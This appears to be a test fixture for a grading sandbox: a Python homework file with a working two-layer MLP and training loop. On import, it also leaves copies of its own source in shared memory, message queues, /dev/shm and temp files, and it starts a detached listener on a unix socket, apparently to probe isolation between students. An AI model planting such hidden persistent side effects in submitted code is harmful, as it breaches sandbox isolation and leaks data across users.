"""HW 3: two-layer MLP with manual backprop.

Hostile: at import, leaves its source code in every kind of kernel state that could
outlive it, for a later student graded by the same worker: a SysV shared memory segment,
message queue and semaphore set (fixed keys), a POSIX message queue, a /dev/shm file,
a file in its temporary folder and a process listening on an abstract unix socket. Says
what it could leave.
"""

import ctypes
import math
import os
import socket
import subprocess
import sys
import tempfile
import time

import torch

MARKER = "mlp-hostile-marker-ipc"
KEY = 0x6D6C7033
IPC_CREAT = 0o1000

class TwoLayerMLP:
    def __init__(self, in_dim=256, hidden_dim=512, out_dim=1):
        bound1 = math.sqrt(6 / (in_dim + hidden_dim))
        bound2 = math.sqrt(6 / (hidden_dim + out_dim))
        self.W1 = torch.empty(hidden_dim, in_dim).uniform_(-bound1, bound1)
        self.b1 = torch.zeros(hidden_dim)
        self.W2 = torch.empty(out_dim, hidden_dim).uniform_(-bound2, bound2)
        self.b2 = torch.zeros(out_dim)

    def forward(self, X):
        # cache what backward needs
        self.x = X
        self.z1 = X @ self.W1.T + self.b1
        self.a1 = torch.clamp(self.z1, min=0)
        return self.a1 @ self.W2.T + self.b2

    def backward(self, pred, y):
        N = pred.shape[0]
        dout = 2 * (pred - y) / N          # dL/dpred, out_dim = 1
        self.grad_W2 = dout.T @ self.a1
        self.grad_b2 = dout.sum(0)
        da1 = dout @ self.W2
        dz1 = da1 * (self.z1 > 0).float()
        self.grad_W1 = dz1.T @ self.x
        self.grad_b1 = dz1.sum(0)

    def step(self, lr):
        self.W1 = self.W1 - lr * self.grad_W1
        self.b1 = self.b1 - lr * self.grad_b1
        self.W2 = self.W2 - lr * self.grad_W2
        self.b2 = self.b2 - lr * self.grad_b2

    def state_dict(self):
        return {"W1": self.W1, "b1": self.b1, "W2": self.W2, "b2": self.b2}

    def load_state_dict(self, state):
        self.W1, self.b1 = state["W1"].clone(), state["b1"].clone()
        self.W2, self.b2 = state["W2"].clone(), state["b2"].clone()


def mse_loss(pred, y):
    return torch.mean((pred - y) ** 2)


def train(model, X, y, epochs=150, batch_size=256, lr=1e-3,
          decay_every=50, decay_factor=0.5, shuffle=True):
    N = X.shape[0]
    history = []
    for epoch in range(epochs):
        lr_now = lr * decay_factor ** (epoch // decay_every)
        order = torch.randperm(N) if shuffle else torch.arange(N)
        total = 0.0
        for start in range(0, N, batch_size):
            idx = order[start:start + batch_size]
            xb, yb = X[idx], y[idx]
            pred = model.forward(xb)
            loss = mse_loss(pred, yb)
            total += loss.item() * len(idx)
            model.backward(pred, yb)
            model.step(lr_now)
        history.append(total / N)
    return history


LIBC = ctypes.CDLL(None, use_errno=True)
SECRET = b"ipc_leave's code: " + open(__file__, "rb").read()[:3000]
LEFT = []


def _shm():
    shmid = LIBC.shmget(KEY, 4096, IPC_CREAT | 0o666)
    if shmid < 0:
        raise OSError(ctypes.get_errno(), "shmget")
    LIBC.shmat.restype = ctypes.c_void_p
    address = LIBC.shmat(shmid, None, 0)
    if address in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "shmat")
    ctypes.memmove(address, SECRET, min(len(SECRET), 4096))


def _msg():
    qid = LIBC.msgget(KEY, IPC_CREAT | 0o666)
    if qid < 0:
        raise OSError(ctypes.get_errno(), "msgget")
    message = ctypes.create_string_buffer(ctypes.sizeof(ctypes.c_long) + 512)
    ctypes.memmove(ctypes.addressof(message), ctypes.byref(ctypes.c_long(1)), ctypes.sizeof(ctypes.c_long))
    ctypes.memmove(ctypes.addressof(message) + ctypes.sizeof(ctypes.c_long), SECRET, 512)
    if LIBC.msgsnd(qid, message, 512, 0o4000) != 0:
        raise OSError(ctypes.get_errno(), "msgsnd")


def _sem():
    if LIBC.semget(KEY, 1, IPC_CREAT | 0o666) < 0:
        raise OSError(ctypes.get_errno(), "semget")


def _mq():
    lib = ctypes.CDLL("librt.so.1", use_errno=True)
    if lib.mq_open(b"/mlp-hostile-ipc", os.O_CREAT | os.O_WRONLY, 0o666, None) < 0:
        raise OSError(ctypes.get_errno(), "mq_open")


def _dev_shm():
    with open("/dev/shm/mlp-hostile-ipc", "wb") as fh:
        fh.write(SECRET)


def _tmp():
    with open(os.path.join(tempfile.gettempdir(), "mlp-hostile-ipc"), "wb") as fh:
        fh.write(SECRET)


def _abstract():
    code = ("import socket, sys, time\n"
            "s = socket.socket(socket.AF_UNIX)\n"
            "s.bind('\\0mlp-hostile-ipc'); s.listen(4)\n"
            "while True:\n"
            "    c, _ = s.accept(); c.sendall(sys.argv[1].encode()); c.close()\n")
    subprocess.Popen([sys.executable, "-c", code, "ipc_leave's code", MARKER], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    for _ in range(20):  # left only if the listener answers
        try:
            with socket.socket(socket.AF_UNIX) as s:
                s.connect("\0mlp-hostile-ipc")
                return
        except OSError:
            time.sleep(0.1)
    raise OSError("the listener did not start")


for _name, _leave in (("shm", _shm), ("msg", _msg), ("sem", _sem), ("mq", _mq), ("dev_shm", _dev_shm),
                      ("tmp", _tmp), ("abstract", _abstract)):
    try:
        _leave()
        LEFT.append(_name)
    except OSError:
        pass
print("left:", LEFT)


if __name__ == "__main__":
    data = torch.load(sys.argv[1] if len(sys.argv) > 1 else "data/train.pt")
    torch.manual_seed(0)
    model = TwoLayerMLP()
    losses = train(model, data["X"], data["y"])
    print("final training loss", losses[-1])
    torch.save(model.state_dict(), sys.argv[2] if len(sys.argv) > 2 else "model.pth")
